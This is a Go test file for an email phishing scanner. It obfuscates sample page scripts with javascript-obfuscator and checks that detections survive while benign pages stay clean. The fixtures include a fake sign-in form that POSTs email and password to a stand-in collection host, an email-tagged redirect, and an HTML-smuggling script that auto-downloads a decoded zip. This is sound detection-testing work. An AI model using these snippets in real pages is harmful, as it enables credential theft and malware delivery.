package heuristic

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// jsObfuscatorVersion is the javascript-obfuscator scripts/deps.sh test
// installs (into a cache directory, from the npm registry).
const jsObfuscatorVersion = "5.8.0"

// jsObfuscatorDir is where that copy lives; the test fails without it or
// without node.
func jsObfuscatorDir(t testing.TB) string {
	t.Helper()
	if _, err := exec.LookPath("node"); err != nil {
		t.Fatalf("node not found (javascript-obfuscator runs on it; install Node.js 20): %v", err)
	}
	dir := os.Getenv("KENSA_JSOBF_DIR")
	if dir == "" {
		dir = "/var/cache/kensa-test/javascript-obfuscator-" + jsObfuscatorVersion
	}
	if _, err := os.Stat(filepath.Join(dir, "node_modules", "javascript-obfuscator", "package.json")); err != nil {
		t.Fatalf("javascript-obfuscator %s not found in %s (scripts/deps.sh test installs it): %v", jsObfuscatorVersion, dir, err)
	}
	return dir
}

// obfuscate runs the real javascript-obfuscator on src once for each set
// of options (a preset, a seed, any option of its API), in one node.
func obfuscate(t testing.TB, dir, src string, options []map[string]any) []string {
	t.Helper()
	opts, err := json.Marshal(options)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("node", "-e", `const o = require(process.argv[1]); const src = require("fs").readFileSync(0, "utf8");
process.stdout.write(JSON.stringify(JSON.parse(process.argv[2]).map(opts => o.obfuscate(src, opts).getObfuscatedCode())));`,
		filepath.Join(dir, "node_modules", "javascript-obfuscator"), string(opts))
	cmd.Stdin = strings.NewReader(src)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("javascript-obfuscator: %v\n%s", err, stderr.String())
	}
	var codes []string
	if err := json.Unmarshal(out, &codes); err != nil || len(codes) != len(options) {
		t.Fatalf("javascript-obfuscator's output: %v", err)
	}
	return codes
}

// obfuscations are the options of obfuscatorOptions, each with the seeds
// given, and their names.
func obfuscations(seeds ...int) (names []string, options []map[string]any) {
	for name, opts := range obfuscatorOptions() {
		for _, seed := range seeds {
			o := map[string]any{"seed": seed, "target": "browser"}
			for k, v := range opts {
				o[k] = v
			}
			names = append(names, name+", seed "+itoa(seed))
			options = append(options, o)
		}
	}
	return names, options
}

// obfuscatorOptions are the presets and the single options of
// javascript-obfuscator that change how strings and flow are written.
func obfuscatorOptions() map[string]map[string]any {
	return map[string]map[string]any{
		"default":                 {"optionsPreset": "default"},
		"medium":                  {"optionsPreset": "medium-obfuscation"},
		"high":                    {"optionsPreset": "high-obfuscation"},
		"base64 strings":          {"stringArrayThreshold": 1, "stringArrayEncoding": []string{"base64"}},
		"rc4 strings":             {"stringArrayThreshold": 1, "stringArrayEncoding": []string{"rc4"}},
		"rotated, wrapped":        {"stringArrayThreshold": 1, "stringArrayRotate": true, "stringArrayWrappersCount": 3, "stringArrayWrappersType": "function", "stringArrayWrappersParametersMaxCount": 5},
		"control flow flattened":  {"controlFlowFlattening": true, "controlFlowFlatteningThreshold": 1},
		"dead code":               {"deadCodeInjection": true, "deadCodeInjectionThreshold": 1},
		"split strings":           {"splitStrings": true, "splitStringsChunkLength": 5},
		"object keys transformed": {"transformObjectKeys": true},
		"unicode escapes":         {"unicodeEscapeSequence": true},
		"self-defending":          {"selfDefending": true, "stringArrayThreshold": 1},
	}
}

// TestObfuscatorIOStringArray: the string array of each encoding, rotated
// and read through aliases and wrappers, is written back as literals.
func TestObfuscatorIOStringArray(t *testing.T) {
	dir := jsObfuscatorDir(t)
	src := `var t = "https://landing.example.net/review/";` + "\n" +
		`setTimeout(function () { window.location.replace(t + "#" + "kenji@corp.example.jp"); }, 300);`
	names, options := obfuscations(1, 4471)
	for i, obf := range obfuscate(t, dir, src, options) {
		if strings.Contains(obf, "landing.example.net") {
			continue // not hidden by these options
		}
		got := NormalizeJS(obf)
		for _, want := range []string{"https://landing.example.net/review/", "kenji@corp.example.jp", "location.replace("} {
			if !strings.Contains(got, want) {
				t.Errorf("%s: %s not recovered", names[i], want)
			}
		}
	}
}

// TestObfuscatedPages: phishing pages whose script javascript-obfuscator
// rewrote with each preset and option keep their findings; honest pages
// obfuscated the same way stay clean.
func TestObfuscatedPages(t *testing.T) {
	longCodeTime(t)
	dir := jsObfuscatorDir(t)
	s := newScanner(t)
	const loading = "<p>Loading your document...</p>"
	login := `<div class="box"><h2>Sign in to view the shared document</h2><input type="email" id="ai" placeholder="Email address">` +
		`<input type="password" id="pr" placeholder="Password"><button id="submit-btn">Sign in</button></div>`
	page := func(markup, script string) string {
		return "<html><head><meta charset=\"utf-8\"></head><body>" + markup + "\r\n<script>\r\n" + script + "\r\n</script></body></html>\r\n"
	}
	payload := strings.Repeat("UEsDBBQAAAAIAAAAIQBFSUNBUg", 300)
	cases := []struct {
		name, markup, script, id string
	}{
		{"redirect", loading, `var t = "https://landing.example.net/review/";
setTimeout(function () { window.location.replace(t + "#" + "kenji@corp.example.jp"); }, 300);`, "html-redirect-attachment"},
		{"credentials sent by fetch", login, `document.getElementById("submit-btn").addEventListener("click", function (ev) {
  ev.preventDefault();
  fetch("https://collect.example.net/owa/auth.php", {method: "POST", body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});
});`, "html-credential-form"},
		{"smuggled zip", loading, `var bin = atob("` + payload + `");
var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
var blob = new Blob([bytes], {type: "application/zip"});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob);
a.download = "Invoice_4471.zip";
document.body.appendChild(a);
a.click();`, "html-smuggling"},
	}
	names, options := obfuscations(4471)
	for _, c := range cases {
		plain := scan(t, s, pageAttach("Document.html", page(c.markup, c.script)))
		if find(plain, c.id) == nil {
			t.Fatalf("%s: %s not found in the page as written", c.name, c.id)
		}
		for i, obf := range obfuscate(t, dir, c.script, options) {
			fs := scan(t, s, pageAttach("Document.html", page(c.markup, obf)))
			if find(fs, c.id) == nil {
				t.Errorf("%s, %s: %s lost (%v)", c.name, names[i], c.id, fs)
			}
		}
	}
	// Honest twins: a clock widget and a form posting to the sender's
	// own site in the body, obfuscated the same way.
	clock := `function pad(n) { return (n < 10 ? "0" : "") + n; }
function tick() { var d = new Date(); document.getElementById("clock").textContent = pad(d.getHours()) + ":" + pad(d.getMinutes()) + ":" + pad(d.getSeconds()); }
setInterval(tick, 1000); tick();
document.getElementById("help").addEventListener("click", function () { window.open("https://shop.example.com/help", "_blank"); });`
	form := `document.getElementById("f").addEventListener("submit", function (ev) {
  ev.preventDefault();
  fetch("https://shop.example.com/feedback", {method: "POST", body: new FormData(this)});
});`
	for _, obf := range obfuscate(t, dir, clock, options) {
		fs := scan(t, s, pageAttach("clock.html", page(`<div id="clock"></div><button id="help">Help</button>`, obf)))
		for _, f := range fs {
			if f.Score > 0 {
				t.Errorf("obfuscated clock widget: %v", fs)
			}
		}
	}
	for _, obf := range obfuscate(t, dir, form, options) {
		fs := scan(t, s, body(page(`<form id="f"><input type="email" name="from"><textarea name="comment"></textarea><button>Send</button></form>`, obf)))
		for _, f := range fs {
			if f.Score > 0 {
				t.Errorf("obfuscated feedback form in the body: %v", fs)
			}
		}
	}
}

// FuzzUnpackStringArrays: unpacking a string array stays within its
// budget and bounds whatever the text, and gives the same text each time
// (the decoders' caches and the Go codecs taken for them change nothing).
func FuzzUnpackStringArrays(f *testing.F) {
	// javascript-obfuscator 5.8.0, default preset with every string in the
	// array, then with base64 strings (seed 1).
	f.Add(`function a0_0x1511(){var _0x423ee5=['225uunnJP','30YbWFgk','47327uqgziT','950aZbLna','replace','408445IJRUHE','location','kenji@corp.example.jp','16705104yMXAsc','1482690RBUvZy','1400pxssSz','279vdYJWc','976576MQjwDG','12LRzXaI','https://landing.example.net/review/','6190gEXdid'];a0_0x1511=function(){return _0x423ee5;};return a0_0x1511();}function a0_0x1b9e(_0x573cbc,_0x48a611){_0x573cbc=_0x573cbc-0xd5;var _0x1511f9=a0_0x1511();var _0x1b9e1b=_0x1511f9[_0x573cbc];return _0x1b9e1b;}var a0_0x5d7229=a0_0x1b9e;(function(_0x566246,_0x5e8587){var _0x407a9d=a0_0x1b9e,_0x4de631=_0x566246();while(!![]){try{var _0x46d0fb=parseInt(_0x407a9d(0xd5))/0x1*(-parseInt(_0x407a9d(0xe4))/0x2)+parseInt(_0x407a9d(0xe2))/0x3*(parseInt(_0x407a9d(0xe1))/0x4)+-parseInt(_0x407a9d(0xda))/0x5*(-parseInt(_0x407a9d(0xd6))/0x6)+parseInt(_0x407a9d(0xd7))/0x7*(-parseInt(_0x407a9d(0xdf))/0x8)+parseInt(_0x407a9d(0xe0))/0x9*(-parseInt(_0x407a9d(0xd8))/0xa)+-parseInt(_0x407a9d(0xde))/0xb+parseInt(_0x407a9d(0xdd))/0xc;if(_0x46d0fb===_0x5e8587)break;else _0x4de631['push'](_0x4de631['shift']());}catch(_0x222291){_0x4de631['push'](_0x4de631['shift']());}}}(a0_0x1511,0xb9814));var t=a0_0x5d7229(0xe3);setTimeout(function(){var _0x3e297e=a0_0x5d7229;window[_0x3e297e(0xdb)][_0x3e297e(0xd9)](t+'#'+_0x3e297e(0xdc));},0x12c);`)
	f.Add(`function a0_0x1511(){var _0x423ee5=['mJi1DxvUBKPq','mZbzyLDgz2S','ndCZmJD1CwD6Avq','otuWyvPItg5H','CMvWBgfJzq','nda4ndq1suPsvuHf','Bg9JyxrPB24','A2vUAMLay29YCc5LEgfTCgXLlMPW','mty3mduXmdr5tvHbC2m','mtq4mJy5mfjcvxzAEq','mtqWmhb4C3ntEG','mJC5DMrzsLDJ','otC2ntC2tvfQD0rh','mtjmuNPyyuK','Ahr0Chm6lY9Syw5KAw5NlMv4yw1WBguUBMv0l3jLDMLLDY8','nJe5mgDfwgrPza'];a0_0x1511=function(){return _0x423ee5;};return a0_0x1511();}var a0_0x5d7229=a0_0x1b9e;(function(_0x566246,_0x5e8587){var _0x407a9d=a0_0x1b9e,_0x4de631=_0x566246();while(!![]){try{var _0x46d0fb=parseInt(_0x407a9d(0xd5))/0x1*(-parseInt(_0x407a9d(0xe4))/0x2)+parseInt(_0x407a9d(0xe2))/0x3*(parseInt(_0x407a9d(0xe1))/0x4)+-parseInt(_0x407a9d(0xda))/0x5*(-parseInt(_0x407a9d(0xd6))/0x6)+parseInt(_0x407a9d(0xd7))/0x7*(-parseInt(_0x407a9d(0xdf))/0x8)+parseInt(_0x407a9d(0xe0))/0x9*(-parseInt(_0x407a9d(0xd8))/0xa)+-parseInt(_0x407a9d(0xde))/0xb+parseInt(_0x407a9d(0xdd))/0xc;if(_0x46d0fb===_0x5e8587)break;else _0x4de631['push'](_0x4de631['shift']());}catch(_0x222291){_0x4de631['push'](_0x4de631['shift']());}}}(a0_0x1511,0xb9814));function a0_0x1b9e(_0x573cbc,_0x48a611){_0x573cbc=_0x573cbc-0xd5;var _0x1511f9=a0_0x1511();var _0x1b9e1b=_0x1511f9[_0x573cbc];if(a0_0x1b9e['MmTjva']===undefined){var _0x533ffe=function(_0x1dcc16){var _0x13b9fc='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';var _0x1b2bb2='',_0x45eb9e='';for(var _0x19d701=0x0,_0x4e5411,_0x3c80de,_0xa910c3=0x0;_0x3c80de=_0x1dcc16['charAt'](_0xa910c3++);~_0x3c80de&&(_0x4e5411=_0x19d701%0x4?_0x4e5411*0x40+_0x3c80de:_0x3c80de,_0x19d701++%0x4)?_0x1b2bb2+=String['fromCharCode'](0xff&_0x4e5411>>(-0x2*_0x19d701&0x6)):0x0){_0x3c80de=_0x13b9fc['indexOf'](_0x3c80de);}for(var _0x2f9899=0x0,_0x2b759f=_0x1b2bb2['length'];_0x2f9899<_0x2b759f;_0x2f9899++){_0x45eb9e+='%'+('00'+_0x1b2bb2['charCodeAt'](_0x2f9899)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x45eb9e);};a0_0x1b9e['lqyLXz']=_0x533ffe,a0_0x1b9e['zimpnv']={},a0_0x1b9e['MmTjva']=!![];}var _0x296512=_0x1511f9[0x0];a0_0x1b9e['bwyDMI']!==_0x296512&&(a0_0x1b9e['zimpnv']={},a0_0x1b9e['bwyDMI']=_0x296512);var _0x327076=a0_0x1b9e['zimpnv'][_0x573cbc];return _0x327076===undefined?(_0x1b9e1b=a0_0x1b9e['lqyLXz'](_0x1b9e1b),a0_0x1b9e['zimpnv'][_0x573cbc]=_0x1b9e1b):_0x1b9e1b=_0x327076,_0x1b9e1b;}var t=a0_0x5d7229(0xe3);setTimeout(function(){var _0x3e297e=a0_0x5d7229;window[_0x3e297e(0xdb)][_0x3e297e(0xd9)](t+'#'+_0x3e297e(0xdc));},0x12c);`)
	f.Add(`function A(){var x=['a','b'];A=function(){return x;};return A();}function D(i,k){i=i-0;var a=A();var v=a[i];return v;}(function(p,w){var d=p();while(!![]){try{var c=parseInt(D(0));if(c===w)break;else d.push(d.shift());}catch(e){d.push(d.shift());}}}(A,1));var o={};o.k=function(a,b){return a+b;},o.s="x";location=o.k(D(1),o.s);`)
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 1<<16 {
			return
		}
		out := unpackStringArrays(s)
		if again := unpackStringArrays(s); again != out {
			t.Fatalf("two runs differ:\n%q\n%q", out, again)
		}
		if len(out) > 2*len(s)+maxDecodedCalls*2*maxFolded/1024+1024 && len(out) > 64*len(s)+4096 {
			t.Fatalf("%d bytes from %d", len(out), len(s))
		}
		inl := inlineProxies(s)
		if again := inlineProxies(s); again != inl {
			t.Fatalf("proxies: two runs differ")
		}
		if len(inl) > 8*len(s)+1024 {
			t.Fatalf("proxies: %d bytes from %d", len(inl), len(s))
		}
	})
}

// BenchmarkScanObfuscatedPage is a large page of kit script (a hundred
// handlers, each with its strings and addresses) that javascript-obfuscator
// rewrote with its high preset (RC4 strings, five wrappers, flattening,
// dead code, self-defending): what reading through the obfuscator costs.
// Compare with BenchmarkScanRunnerPage.
func BenchmarkScanObfuscatedPage(b *testing.B) {
	dir := jsObfuscatorDir(b)
	var js strings.Builder
	for i := 0; i < 100; i++ {
		n := itoa(i)
		js.WriteString(`document.getElementById("b` + n + `").addEventListener("click", function (ev) { ev.preventDefault(); var v = document.getElementById("f` + n + `").value; ` +
			`fetch("https://collect.example.net/step` + n + `.php", {method: "POST", body: "field` + n + `=" + encodeURIComponent(v) + "&stage=` + n + `"}); });` + "\n")
	}
	js.WriteString(`setTimeout(function () { window.location.replace("https://landing.example.net/review/#" + "kenji@corp.example.jp"); }, 300);` + "\n")
	obf := obfuscate(b, dir, js.String(), []map[string]any{{"optionsPreset": "high-obfuscation", "seed": 1, "target": "browser"}})[0]
	benchPage(b, `<input type="password" id="pr"><script>`+obf+`</script>`)
}
